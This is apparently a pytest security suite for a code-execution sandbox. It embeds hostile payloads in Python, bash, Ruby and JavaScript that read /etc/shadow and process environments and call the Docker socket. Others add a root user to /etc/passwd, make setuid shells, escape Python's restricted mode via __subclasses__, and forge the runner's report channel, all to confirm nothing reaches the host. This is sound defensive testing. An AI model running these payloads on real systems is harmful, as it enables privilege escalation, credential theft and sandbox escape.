"""Reaching the host: its files and environment, the Docker socket, system directories, kernel
settings, privileges, Python-level escapes of the restricted mode, hostile JavaScript.

The host holds a world-readable canary (outside anything a sandbox is given), a root-only canary
in /root, a secret in the orchestrator's environment; none may come back in a result. Writes are
judged by the host's files and kernel settings (advisory for the code itself: it sees EROFS or
EACCES, which this suite does not require).
"""

from __future__ import annotations

import glob
import os
from typing import Any

import pytest

from orchestrator.policy import load_policy
from tests.security.harness import Sec

pytestmark = pytest.mark.security

READ_HOST_FILES = {
    "python": r"""
@ATTEMPT@
import os
paths = ['@WORLD@', '@ROOTJSON@', '/etc/shadow', '/proc/1/environ', '/proc/self/environ',
         '/proc/self/root@WORLD@', '../' * 16 + '@WORLD@', '/proc/self/cwd/' + '../' * 16 + '@WORLD@']
for pid in os.listdir('/proc'):
    if pid.isdigit():
        paths += ['/proc/%s/root@WORLD@' % pid, '/proc/%s/root@ROOTJSON@' % pid, '/proc/%s/environ' % pid]
for path in paths:
    try:
        with open(path, 'rb') as handle:
            print(path, handle.read(4096))
    except Exception as exc:
        print(path, repr(exc))
for fd in os.listdir('/proc/self/fd'):  # a descriptor leaked from outside the sandbox
    try:
        print('fd', fd, os.readlink('/proc/self/fd/' + fd))
        with open('/proc/self/fd/%s/%s@WORLD@' % (fd, '../' * 16), 'rb') as handle:
            print(handle.read(4096))
    except Exception as exc:
        print('fd', fd, repr(exc))
for top in ('/', '/tmp', '/root', '/home', '@BASE@'):
    try:
        print(top, os.listdir(top))
    except Exception as exc:
        print(top, repr(exc))
""",
    "bash": r"""
@ATTEMPT@
for f in @WORLD@ @ROOTJSON@ /etc/shadow /proc/self/root@WORLD@ /proc/1/root@WORLD@ \
         "$(printf '../%.0s' $(seq 1 16))@WORLD@" /proc/*/root@ROOTJSON@; do
  echo "== $f"; head -c 4096 "$f" 2>&1
done
find / \( -path /proc -o -path /sys \) -prune -o -maxdepth 6 -name '*canary*' -print 2>/dev/null |
  head -20 | while read -r f; do echo "== $f"; head -c 4096 "$f"; done
ls -la / /tmp /root @BASE@ 2>&1
""",
    "ruby": r"""
@ATTEMPT@
paths = ['@WORLD@', '@ROOTJSON@', '/etc/shadow', '/proc/1/environ', '/proc/self/environ',
         '/proc/self/root@WORLD@', '../' * 16 + '@WORLD@', '/proc/self/cwd/' + '../' * 16 + '@WORLD@']
Dir.children('/proc').grep(/\A\d+\z/).each do |pid|
  paths += ["/proc/#{pid}/root@WORLD@", "/proc/#{pid}/root@ROOTJSON@", "/proc/#{pid}/environ"]
end
paths.each do |path|
  puts "#{path} #{File.binread(path, 4096).inspect}"
rescue Exception => e
  puts "#{path} #{e.inspect}"
end
Dir.children('/proc/self/fd').each do |fd|  # a descriptor leaked from outside the sandbox
  puts "fd #{fd} #{File.readlink("/proc/self/fd/#{fd}")}"
  puts IO.new(IO.sysopen("/proc/self/fd/#{fd}/#{'../' * 16}@WORLD@"), 'rb').read(4096).inspect
rescue Exception => e
  puts "fd #{fd} #{e.inspect}"
end
['/', '/tmp', '/root', '/home', '@BASE@'].each do |top|
  puts "#{top} #{Dir.children(top).inspect}"
rescue Exception => e
  puts "#{top} #{e.inspect}"
end
""",
}
READ_ENVIRONMENT = {
    "python": r"""
@ATTEMPT@
import os
print(dict(os.environ))
for pid in ['self', '1'] + [p for p in os.listdir('/proc') if p.isdigit()]:
    try:
        with open('/proc/%s/environ' % pid, 'rb') as handle:
            print(pid, handle.read())
    except Exception as exc:
        print(pid, repr(exc))
""",
    "bash": "@ATTEMPT@\nenv\nfor f in /proc/*/environ; do echo \"== $f\"; tr '\\0' '\\n' < \"$f\" 2>&1; done\n",
    "javascript": r"""
@ATTEMPT@
const fs = require('fs');
console.log(JSON.stringify(process.env));
for (const p of fs.readdirSync('/proc').filter((p) => /^\d+$/.test(p)).concat(['self'])) {
  try { console.log(p, fs.readFileSync(`/proc/${p}/environ`, 'utf8')); } catch (e) { console.log(p, e.code); }
}
""",
    "ruby": r"""
@ATTEMPT@
puts ENV.to_h.inspect
(['self', '1'] + Dir.children('/proc').grep(/\A\d+\z/)).each do |pid|
  puts "#{pid} #{File.binread("/proc/#{pid}/environ").inspect}"
rescue Exception => e
  puts "#{pid} #{e.inspect}"
end
""",
}
DOCKER_SOCKET = {
    "python": r"""
@ATTEMPT@
import glob, json, socket
candidates = ['/var/run/docker.sock', '/run/docker.sock', '/proc/1/root/var/run/docker.sock',
              '/run/containerd/containerd.sock', '/var/run/docker/containerd/containerd.sock']
for pattern in ('/run/*.sock', '/var/run/*.sock', '/run/*/*.sock', '/tmp/*.sock', '/tmp/*/*.sock',
                '/proc/*/root/run/docker.sock', '/proc/*/root/var/run/docker.sock'):
    candidates += glob.glob(pattern)
body = json.dumps({'Image': 'athena-sandbox/bash:latest', 'Cmd': ['true'],
                   'Labels': {'athena.security.canary': '@TOKEN@'}})
request = ('POST /containers/create HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\n'
           'Content-Length: %d\r\n\r\n%s' % (len(body), body)).encode()
for path in dict.fromkeys(candidates):
    try:
        with socket.socket(socket.AF_UNIX) as conn:
            conn.settimeout(3)
            conn.connect(path)
            conn.sendall(request)
            print(path, conn.recv(300))
    except Exception as exc:
        print(path, repr(exc))
""",
    "javascript": r"""
@ATTEMPT@
const http = require('http');
const body = JSON.stringify({Image: 'athena-sandbox/bash:latest', Cmd: ['true'],
                             Labels: {'athena.security.canary': '@TOKEN@'}});
for (const socketPath of ['/var/run/docker.sock', '/run/docker.sock']) {
  const req = http.request({socketPath, path: '/containers/create', method: 'POST',
                            headers: {'Content-Type': 'application/json'}},
                           (res) => console.log(socketPath, res.statusCode));
  req.on('error', (e) => console.log(socketPath, e.code));
  req.end(body);
}
""",
    "bash": r"""
@ATTEMPT@
for s in /var/run/docker.sock /run/docker.sock /proc/1/root/var/run/docker.sock; do
  ls -la "$s" 2>&1
  command -v curl >/dev/null && curl -s -m 3 --unix-socket "$s" -H 'Content-Type: application/json' \
    -d '{"Image": "athena-sandbox/bash:latest", "Labels": {"athena.security.canary": "@TOKEN@"}}' \
    http://docker/containers/create
done
echo done
""",
    "ruby": r"""
@ATTEMPT@
require 'socket'
candidates = ['/var/run/docker.sock', '/run/docker.sock', '/proc/1/root/var/run/docker.sock',
              '/run/containerd/containerd.sock', '/var/run/docker/containerd/containerd.sock']
%w[/run/*.sock /var/run/*.sock /run/*/*.sock /tmp/*.sock /tmp/*/*.sock
   /proc/*/root/run/docker.sock /proc/*/root/var/run/docker.sock].each { |p| candidates += Dir.glob(p) }
body = JSON.generate({ 'Image' => 'athena-sandbox/bash:latest', 'Cmd' => ['true'],
                       'Labels' => { 'athena.security.canary' => '@TOKEN@' } })
request = "POST /containers/create HTTP/1.1\r\nHost: docker\r\nContent-Type: application/json\r\n" \
          "Content-Length: #{body.bytesize}\r\n\r\n#{body}"
candidates.uniq.each do |path|
  UNIXSocket.open(path) do |conn|
    conn.write(request)
    puts "#{path} #{IO.select([conn], nil, nil, 3) ? conn.readpartial(300).inspect : 'silent'}"
  end
rescue Exception => e
  puts "#{path} #{e.inspect}"
end
""",
}
TOKEN_DIRS = "/ /usr /usr/local/bin /usr/lib /etc /etc/cron.d /root /var /var/tmp /opt /home /srv /lib /bin /tmp /dev/shm /run @BASE@"
WRITE_SYSTEM = {
    "bash": r"""
@ATTEMPT@
T=@TOKEN@
for d in DIRS; do echo pwned > "$d/$T" 2>/dev/null && echo "wrote $d/$T"; done
echo "pwned-$T:x:0:0::/root:/bin/bash" >> /etc/passwd
echo "alias ls='echo $T'" >> /root/.bashrc
rm -f /etc/hosts /root/.profile
chmod 666 /etc/shadow
echo 77 > /proc/sys/fs/lease-break-time
echo "|/bin/true $T" > /proc/sys/kernel/core_pattern
echo "$T" > /proc/sys/kernel/hostname
[ -e /sys/kernel/uevent_helper ] && echo "/tmp/$T" > /sys/kernel/uevent_helper
for c in memory pids cpu; do mkdir "/sys/fs/cgroup/$c/$T" && echo "made cgroup $c"; done
echo $$ > /sys/fs/cgroup/memory/cgroup.procs
echo $$ > /sys/fs/cgroup/pids/cgroup.procs
echo done
""".replace("DIRS", TOKEN_DIRS),
    "python": r"""
@ATTEMPT@
import os
T = '@TOKEN@'
for d in 'DIRS'.split():
    try:
        with open(d + '/' + T, 'w') as handle:
            handle.write('pwned')
        print('wrote', d)
    except Exception as exc:
        print('refused', d, repr(exc))
for path, data in [('/etc/passwd', 'pwned-%s:x:0:0::/root:/bin/bash\n' % T),
                   ('/root/.bashrc', "alias ls='echo %s'\n" % T),
                   ('/proc/sys/fs/lease-break-time', '77'),
                   ('/proc/sys/kernel/core_pattern', '|/bin/true ' + T),
                   ('/sys/fs/cgroup/memory/cgroup.procs', str(os.getpid()))]:
    try:
        with open(path, 'a') as handle:
            handle.write(data)
        print('wrote', path)
    except Exception as exc:
        print('refused', path, repr(exc))
for path in ('/etc/hosts', '/root/.profile'):
    try:
        os.remove(path)
    except Exception as exc:
        print('refused', path, repr(exc))
""".replace("DIRS", TOKEN_DIRS),
}
PRIVILEGES = {
    "bash": r"""
@ATTEMPT@
T=@TOKEN@
P=/project; [ -d "$P" ] || P=@PROJECT@
grep -E '^(Uid|Gid|Cap(Eff|Prm|Bnd)|NoNewPrivs|Seccomp):' /proc/self/status
find / -xdev -perm -4000 -type f 2>/dev/null | head -20
cp /bin/bash "$HOME/sh-$T" && chmod u+s,g+s "$HOME/sh-$T" && "$HOME/sh-$T" -p -c "id; touch $P/$T-suid"
chmod u+s /bin/bash
su -c "touch $P/$T-su" root < /dev/null
command -v sudo && sudo -n touch "$P/$T-sudo"
command -v capsh && capsh --caps='cap_sys_admin+eip' -- -c "mount -o remount,rw $P; touch $P/$T-capsh"
mount -o remount,rw "$P"; touch "$P/$T-remount"
mount -t tmpfs none /mnt
unshare -r -m sh -c "id; mount -o remount,bind,rw $P; touch $P/$T-userns; umount -l $P; touch $P/$T-umount; ls -la $P; echo 77 > /proc/sys/fs/lease-break-time"
unshare -r -m sh -c "mount --bind / /mnt && touch /mnt$P/$T-bind"
nsenter -t 1 -a true
echo x >> "$P/data.csv"; rm -f "$P/data.csv"; touch "$P/$T"; ln -s /etc/shadow "$P/link-$T"
echo done
""",
    "python": r"""
@ATTEMPT@
import ctypes, os
T = '@TOKEN@'
for name, call, args in (('setuid', os.setuid, (0,)), ('setgid', os.setgid, (0,)),
                         ('setresuid', os.setresuid, (0, 0, 0)), ('chroot', os.chroot, ('/',))):
    try:
        call(*args)
        print('allowed', name)
    except Exception as exc:
        print('refused', name, repr(exc))
try:
    libc = ctypes.CDLL(None, use_errno=True)
    print('unshare(NEWUSER|NEWNS):', libc.unshare(0x10000000 | 0x00020000), ctypes.get_errno())
    print('mount:', libc.mount(b'none', b'/project', b'tmpfs', 0, None), ctypes.get_errno())
except Exception as exc:
    print('ctypes', repr(exc))
for where in ('/project', '@PROJECT@'):
    try:
        with open(where + '/' + T, 'w') as handle:
            handle.write('pwned')
        print('wrote', where)
    except Exception as exc:
        print('refused', where, repr(exc))
""",
}
# What each Python-level escape does once it reaches `os`: read the root-only canary, write a
# file on the host. Inside a container or srt these hit the sandbox's own filesystem.
PAYLOAD = r"""
def use(g):
    try:
        print('read:', g['read'](g['open']('@ROOTJSON@', 0), 4096))
    except Exception as exc:
        print('read refused', repr(exc))
    try:
        g['write'](g['open']('@BASE@/pwned-@TOKEN@', 65, 420), b'pwned')
        print('wrote')
    except Exception as exc:
        print('write refused', repr(exc))
"""
PY_ESCAPES = {
    "operator": PAYLOAD
    + r"""
@ATTEMPT@
import operator
subclasses = operator.attrgetter('__class__.__base__.__subclasses__')(())()
names = [operator.attrgetter('__name__')(c) for c in subclasses]
use(operator.attrgetter('__init__.__globals__')(subclasses[names.index('_wrap_close')]))
""",
    "typing": PAYLOAD
    + r"""
@ATTEMPT@
import typing
G = "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__"
def reader(x: G + "['write'](1, " + G + "['read'](" + G + "['open']('@ROOTJSON@', 0), 4096))"):
    pass
def writer(x: G + "['write'](" + G + "['open']('@BASE@/pwned-@TOKEN@', 65, 420), b'pwned')"):
    pass
for function in (reader, writer):
    try:
        typing.get_type_hints(function)
    except Exception as exc:
        print('get_type_hints:', repr(exc))
""",
    "formatter": PAYLOAD
    + r"""
@ATTEMPT@
import string
class F(string.Formatter):
    pass
f = F()
subclasses = f.get_field('0.__class__.__base__.__subclasses__', [()], {})[0]()
names = [f.get_field('0.__name__', [c], {})[0] for c in subclasses]
use(f.get_field('0.__init__.__globals__', [subclasses[names.index('_wrap_close')]], {})[0])
""",
    "getattr": PAYLOAD
    + r"""
@ATTEMPT@
attempts = []
for parts in (('__cl', 'ass__'), ('__glo', 'bals__'), ('gi_', 'frame'), ('f_', 'globals')):
    try:
        attempts.append(getattr(use, parts[0] + parts[1]))
    except Exception as exc:
        print('refused', parts, repr(exc))
gen = (x for x in [1])
try:
    frame = getattr(gen, 'gi_' + 'frame')
    found = getattr(frame, 'f_' + 'globals')['__builtins__']
    load = found['__import__'] if isinstance(found, dict) else getattr(found, '__imp' + 'ort__')
    os_module = load('os')
    use(getattr(os_module, '__di' + 'ct__'))
except Exception as exc:
    print('frames refused', repr(exc))
""",
    "dunders": PAYLOAD
    + r"""
@ATTEMPT@
use([c for c in ().__class__.__base__.__subclasses__() if c.__name__ == '_wrap_close'][0].__init__.__globals__)
""",
}
RISKY_IMPORTS = ("operator", "typing", "string", "dataclasses", "inspect", "types")
HOSTILE_JAVASCRIPT = r"""
@ATTEMPT@
const cp = require('child_process');
const fs = require('fs');
const net = require('net');
const out = [];
try {
  out.push(cp.execSync('id; cat @WORLD@ @ROOTJSON@ /etc/shadow; env; cat /proc/1/environ',
                       {encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe']}));
} catch (e) { out.push('exec: ' + e.message); }
out.push(JSON.stringify(process.env));
for (const p of ['/proc/1/environ', '/proc/self/environ', '@WORLD@', '@ROOTJSON@', '/proc/1/root@WORLD@']) {
  try { out.push(fs.readFileSync(p, 'utf8')); } catch (e) { out.push(p + ': ' + e.code); }
}
for (const d of ['/usr', '/etc', '/root', '/tmp', '@BASE@']) {
  try { fs.writeFileSync(d + '/@TOKEN@', 'pwned'); out.push('wrote ' + d); } catch (e) { out.push(d + ': ' + e.code); }
}
try { cp.spawn('sh', ['-c', 'exec -a @TOKEN@-child sleep 300'], {detached: true, stdio: 'ignore'}).unref(); } catch (e) {}
for (const [host, port] of @TCP@) {
  const s = net.connect({host, port}, () => s.end('ESCAPE @TOKEN@'));
  s.on('error', () => {});
}
console.log(out.join('\n'));
"""
# Each forgery waits a moment after its marker: under gVisor the bytes it writes to the runner's
# stdout may land before the runner has forwarded the marker, garbling the stream it was in
# (the documented self-harm), and the case would be judged not attempted though it was.
RUNNER_FORGERY = r"""
@ATTEMPT@
sleep 0.3
for f in /proc/1/fd/0 /proc/1/fd/1 /proc/1/fd/2 /proc/1/fd/3 /proc/1/fd/4; do
  printf 'x\000\000\000\020{"exit_code": 0}' > "$f" 2>/dev/null && echo "wrote $f"
done
exit 3
"""
# Ruby writes the frames through every descriptor it has (fd 4 is its own value channel).
RUNNER_FORGERY_RUBY = r"""
@ATTEMPT@
sleep 0.3
frame = "x\x00\x00\x00\x10{\"exit_code\": 0}".b
(0..9).each do |fd|
  io = IO.for_fd(fd, 'wb', autoclose: false)
  io.write(frame)
  io.flush
  puts "wrote fd #{fd}"
rescue Exception => e
  puts "fd #{fd} #{e.class}"
end
(0..4).each do |fd|
  File.binwrite("/proc/1/fd/#{fd}", frame)
  puts "wrote /proc/1/fd/#{fd}"
rescue Exception => e
  puts "/proc/1/fd/#{fd} #{e.class}"
end
exit 3
"""
FAILURE_FORGERY = r"""
@ATTEMPT@
sleep 0.3
for f in /proc/1/fd/1 /proc/1/fd/2; do
  printf 'f\000\000\000\026the runner was spoofed' > "$f" 2>/dev/null && echo "wrote $f"
done
exit 3
"""


def test_read_host_files(sec: Sec) -> None:
    """Host canaries (world-readable and root-only) never come back, whatever path is tried."""
    for language in sec.languages(*READ_HOST_FILES):
        sec.run(READ_HOST_FILES[language], language, timeout_seconds=60)
    sec.finish()


def test_read_host_environment(sec: Sec) -> None:
    """A secret in the orchestrator's environment reaches no run (env, /proc/*/environ)."""
    for language in sec.languages(*READ_ENVIRONMENT):
        sec.run(READ_ENVIRONMENT[language], language, timeout_seconds=30)
    sec.finish()


def test_docker_socket(sec: Sec) -> None:
    """No run reaches the Docker socket: no container labelled with the run's token appears."""
    for language in sec.languages(*DOCKER_SOCKET):
        sec.run(DOCKER_SOCKET[language], language, timeout_seconds=30)
    made = sec.host.client.api.containers(
        all=True, filters={"label": f"athena.security.canary={sec.token}"}
    )
    for container in made:
        sec.host.client.api.remove_container(container["Id"], force=True)
    sec.expect(not made, f"the run created {len(made)} container(s) through the engine")
    sec.finish()


def test_write_system_dirs(sec: Sec) -> None:
    """Writes to /usr /etc /root /proc/sys /sys and cgroups change nothing on the host."""
    for language in sec.languages(*WRITE_SYSTEM):
        sec.run(WRITE_SYSTEM[language], language, timeout_seconds=30)
    for made in glob.glob(f"/sys/fs/cgroup/*/{sec.token}"):
        os.rmdir(made)
        sec.expect(False, f"the run created the host cgroup {made}")
    sec.finish()


def test_privileges(sec: Sec) -> None:
    """setuid copies, su, capsh, remounts, unshare and nsenter leave the read-only project as it was."""
    for language in sec.languages(*PRIVILEGES):
        sec.run(PRIVILEGES[language], language, research=True, timeout_seconds=30)
    sec.finish()


@pytest.mark.parametrize("trick", sorted(PY_ESCAPES))
def test_py_escape(sec: Sec, trick: str) -> None:
    """Python-level escapes reach nothing of the host, even when a policy allows their modules."""
    sec.languages("python")
    # A policy that hands the restricted mode the very modules the tricks need.
    allowed = [*load_policy("strict").validation.allowed_imports, *RISKY_IMPORTS]
    policy = sec.policy(validation={"enforce": False, "allowed_imports": allowed})
    # The restricted mode's compiler refuses the dunders trick itself: nothing runs, by design.
    refused = (sec.mode, trick) == ("restricted", "dunders")
    refused_by = '"__subclasses__" is an invalid attribute name' if refused else None
    sec.run(PY_ESCAPES[trick], "python", timeout_seconds=30, policy=policy, refused_by=refused_by)
    sec.finish()


def test_hostile_javascript(sec: Sec) -> None:
    """child_process, process.env, /proc/1/environ, fs writes and net.connect reach nothing of the host."""
    sec.languages("javascript")
    sec.run(HOSTILE_JAVASCRIPT, "javascript", timeout_seconds=30)
    sec.finish()


@pytest.mark.parametrize("language", ["bash", "ruby"])
def test_runner_channel_forgery(sec: Sec, language: str) -> None:
    """Code cannot write the runner's report channel: its own exit status comes back unforged."""
    sec.only("docker-runc", "docker-runsc", "fast")  # the image's runner reports
    code = {"bash": RUNNER_FORGERY, "ruby": RUNNER_FORGERY_RUBY}[language]
    result = sec.run(code, language, timeout_seconds=20)
    expect_own_exit_status(sec, result)
    sec.finish()


def expect_own_exit_status(sec: Sec, result: dict[str, Any]) -> None:
    """The run reports the code's own exit status (3), or under gVisor may fail garbled.

    gVisor lets the code open /proc/1/fd/1 (docs/isolation.md): bytes landing inside a frame
    garble that run's own report, which then fails as a sandbox error; what must never work is
    a forged success or a forged exit status.
    """
    if sec.mode == "docker-runsc" and "runner sent garbage" in (result["error"] or ""):
        sec.expect(not result["success"], "a garbled report was taken as a success")
        sec.notes.append("the code garbled its own report (a gVisor limitation); the run failed")
        return
    sec.expect(result["exit_code"] == 3, f"the exit status came back as {result['exit_code']}")
    sec.expect(result["error"] is None, f"the report broke: {result['error']}")


def test_runner_failure_forgery(sec: Sec) -> None:
    """Code cannot make its run be recorded as a failure of the sandbox with a text of its own."""
    sec.only("docker-runc", "docker-runsc", "fast")
    result = sec.run(FAILURE_FORGERY, "bash", timeout_seconds=20)
    sec.expect("spoofed" not in str(result["error"]), f"the record says: {result['error']}")
    expect_own_exit_status(sec, result)
    sec.finish()
